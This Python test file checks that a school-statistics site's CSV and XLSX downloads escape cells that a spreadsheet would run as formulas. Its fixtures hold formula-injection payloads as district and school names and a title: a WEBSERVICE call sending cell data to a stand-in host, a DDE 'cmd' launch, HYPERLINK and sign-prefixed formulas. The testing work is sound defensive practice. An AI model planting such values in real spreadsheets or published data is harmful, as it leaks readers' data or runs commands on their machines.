"""Spreadsheet-safe downloads: no published CSV or XLSX cell opens as a formula.

Registry names and titles come by pull request; a district called `=WEBSERVICE(…)` would run in
the reader's Excel. Every .csv and .xlsx of the sample site, and of a copy whose names start
with formula characters, is scanned cell by cell.
"""

from __future__ import annotations

import csv
import io
import re
import subprocess
import sys
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
import yaml
from openpyxl import load_workbook

from build_tools.monitoring.downloads import csv_bytes, xlsx_bytes
from build_tools.output.spreadsheet_safe import needs_escape, safe_cell, safe_frame
from tests.helpers import copy_sample

FORMULAS = {
    "Всеволожский район": '=WEBSERVICE("https://x.example/?"&A2)',
    "Гатчинский округ": "@SUM(A1)",
    "Школа «Горизонт»": "-2+3",
    "Средний балл ЕГЭ по русскому языку": "+7 Средний балл ЕГЭ",
    "Школа «Маяк»": "\uff1dcmd|' /C calc'!A0",
}
"""Sample names → hostile names (districts, schools, an indicator) written into the copy."""
TITLE = '=HYPERLINK("https://x.example/","Подробнее")'
NUMBER = re.compile(r"[-+]?\d+(?:[.,]\d+)?(?:[eE][-+]?\d+)?")


@pytest.mark.parametrize("text", [
    "=1+1", "+7 900", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "  =1", "\u00a0=1", "\uff1d1",
    "\uff0b1", "\uff0d1", "\uff201", "-5",
])
def test_formula_starts_are_escaped(text: str) -> None:
    assert needs_escape(text)
    assert safe_cell(text) == "'" + text
    assert not needs_escape(safe_cell(text))


@pytest.mark.parametrize("text", [
    "Всеволожский район", "-", "--", "—", "– нет данных", "", "  ", "'=1", "1-2", "a=b",
])
def test_ordinary_text_and_dash_placeholders_stay_as_written(text: str) -> None:
    assert safe_cell(text) == text


def test_numbers_stay_numbers() -> None:
    assert safe_cell(-2.5) == -2.5 and safe_cell(-3) == -3
    assert safe_cell(float("inf")) is None
    table = pd.DataFrame({"=name": ["=1", "ok", None], "change": [-1.5, 2.0, None]})
    out = safe_frame(table)
    assert list(out.columns) == ["'=name", "change"]
    assert out["change"].tolist()[:2] == [-1.5, 2.0]
    assert out.iloc[0, 0] == "'=1" and out.iloc[1, 0] == "ok"
    text = csv_bytes(table).decode("utf-8-sig")
    assert text.splitlines()[1] == "'=1;-1,5"
    book = load_workbook(io.BytesIO(xlsx_bytes(table, "лист")))
    cells = {c.coordinate: c for row in book.active.iter_rows() for c in row}
    assert cells["A2"].value == "'=1" and cells["A2"].data_type == "s"
    assert cells["B2"].value == -1.5 and cells["B2"].data_type == "n"


def _is_number(text: str) -> bool:
    return bool(NUMBER.fullmatch(text.replace("\u00a0", "")))


def scan(site: Path) -> tuple[int, list[str]]:
    """Cells checked and every cell that a spreadsheet would run, as «file: cell»."""
    found: list[str] = []
    checked = 0
    for path in sorted(site.rglob("*.csv")):
        text = path.read_bytes().decode("utf-8-sig")
        delimiter = ";" if text.split("\n", 1)[0].count(";") else ","
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
            for cell in row:
                checked += 1
                if needs_escape(cell) and not _is_number(cell):
                    found.append(f"{path.relative_to(site)}: {cell!r}")
    for path in sorted(site.rglob("*.xlsx")):
        for sheet in load_workbook(path).worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    checked += 1
                    value: Any = cell.value
                    if cell.data_type == "f" or (isinstance(value, str) and needs_escape(value)):
                        found.append(f"{path.relative_to(site)}!{cell.coordinate}: {value!r}")
    return checked, found


def _rename(value: Any) -> Any:
    if isinstance(value, str):
        return FORMULAS.get(value, value)
    if isinstance(value, list):
        return [_rename(v) for v in value]
    if isinstance(value, dict):
        return {k: _rename(v) for k, v in value.items()}
    return value


@pytest.fixture(scope="module")
def formula_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    project = copy_sample(tmp_path_factory.mktemp("formulas") / "project")
    for path in (project / "content/_data").glob("*.yml"):
        data = yaml.safe_load(path.read_text(encoding="utf-8"))
        path.write_text(yaml.safe_dump(_rename(data), allow_unicode=True, sort_keys=False),
                        encoding="utf-8")
    practice = sorted((project / "content/practices").glob("*.md"))[0]
    text = practice.read_text(encoding="utf-8")
    title = re.search(r"^title: (.*)$", text, re.M)
    assert title
    practice.write_text(text.replace(title.group(0), f"title: '{TITLE}'", 1), encoding="utf-8")
    result = subprocess.run([sys.executable, "-m", "build_tools.engine.cli", "build"], cwd=project,
                            capture_output=True, text=True, timeout=600)
    assert result.returncode == 0, result.stderr
    return project / "site"


def test_the_sample_site_has_no_formula_cell(sample_site: Path) -> None:
    checked, found = scan(sample_site)
    assert checked > 1000
    assert not found


def test_formula_names_are_published_escaped(formula_site: Path) -> None:
    checked, found = scan(formula_site)
    assert checked > 1000
    assert not found, "\n".join(found[:20])
    everything = "".join(p.read_bytes().decode("utf-8-sig") for p in formula_site.rglob("*.csv"))
    for hostile in [*FORMULAS.values(), TITLE]:
        assert "'" + hostile in everything or "'" + hostile.replace('"', '""') in everything, (
            hostile)
    cells = [c.value for p in formula_site.rglob("*.xlsx")
             for row in load_workbook(p).active.iter_rows() for c in row]
    # A name may begin a longer cell («… : +4,5 баллы»): what counts is how the cell begins.
    for name in ("Всеволожский район", "Средний балл ЕГЭ по русскому языку"):
        assert any(isinstance(c, str) and c.startswith("'" + FORMULAS[name]) for c in cells), name
